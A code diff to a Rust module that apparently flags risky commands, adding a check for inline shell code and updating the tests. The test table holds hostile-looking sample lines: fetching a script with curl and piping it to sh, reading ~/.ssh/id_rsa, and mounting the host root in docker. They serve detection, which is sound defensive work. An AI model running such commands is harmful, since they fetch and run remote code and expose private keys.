@@ -4,6 +4,7 @@
 
 use serde_json::{Map, Value};
 
+use super::written_code::written_code;
 use crate::model::caution::{Caution, CautionCode};
 
 /// Prefixes of variables that determine which code is loaded; one that ends with `=` is a complete name.
@@ -202,6 +203,7 @@ pub fn of_program(
 ) -> Vec<Caution> {
     let words: Vec<String> = std::iter::once(command.to_owned()).chain(args.iter().cloned()).collect();
     let mut risks: Vec<Caution> = env.keys().filter_map(|name| variable(name)).collect();
+    risks.extend(written_code(&words).into_iter().map(|how| CautionCode::RunsWritten.with([how])));
     look(&words, env, chosen, 0, &mut risks);
     let mut seen = std::collections::BTreeSet::new();
     risks.retain(|risk| seen.insert(risk.clone()));
@@ -276,15 +278,17 @@ fn is_inside_v4(four: std::net::Ipv4Addr) -> bool {
 }
 
 fn variable(name: &str) -> Option<Caution> {
+    decides_what_is_loaded(name).then(|| CautionCode::SetsLoader.with([name]))
+}
+
+/// Does a variable of this name decide what code is loaded, or where it comes from?
+pub fn decides_what_is_loaded(name: &str) -> bool {
     let upper = name.to_ascii_uppercase();
-    if HARMLESS_VARIABLES.contains(&upper.as_str()) {
-        return None;
-    }
-    let decides = LOADER_VARIABLES.iter().any(|known| match known.strip_suffix('=') {
+    let is_known = |known: &&str| match known.strip_suffix('=') {
         Some(whole) => upper == whole,
         None => upper.starts_with(known),
-    });
-    decides.then(|| CautionCode::SetsLoader.with([name]))
+    };
+    !HARMLESS_VARIABLES.contains(&upper.as_str()) && LOADER_VARIABLES.iter().any(|known| is_known(known))
 }
 
 fn look(
@@ -507,6 +511,8 @@ fn npx(name: &str, args: &[String], risks: &mut Vec<Caution>) {
                     .map_or_else(|| words.next().map_or("", |next| next), |(_, value)| value);
                 risks.push(CautionCode::RunsOtherPackage.with([name, package, bare]));
             }
+            // Named as code that is written here.
+            "-c" | "--call" | "--shell-mode" => {}
             "--loglevel" => drop(words.next_if(|_| !word.contains('='))),
             _ => {
                 let value = words.next_if(|next| !word.contains('=') && !next.starts_with('-'));
@@ -626,12 +632,12 @@ mod tests {
         }
         let shell = |line: &str| of_program("sh", &["-c".into(), line.into()], &Map::new(), &[]).len();
         for (line, risks) in [
-            ("exec docker run -v /:/host image", 1),
-            ("A=1 node server.js", 0),
-            ("cd /srv/mail && node server.js", 0),
-            ("curl https://x.example/i | sh", 1),
-            ("node server.js > /dev/null; cat ~/.ssh/id_rsa", 1),
-            ("cd /srv && node $(cat which)", 1),
+            ("exec docker run -v /:/host image", 2),
+            ("A=1 node server.js", 1),
+            ("cd /srv/mail && node server.js", 1),
+            ("curl https://x.example/i | sh", 2),
+            ("node server.js > /dev/null; cat ~/.ssh/id_rsa", 2),
+            ("cd /srv && node $(cat which)", 2),
         ] {
             assert_eq!(shell(line), risks, "{line}");
         }
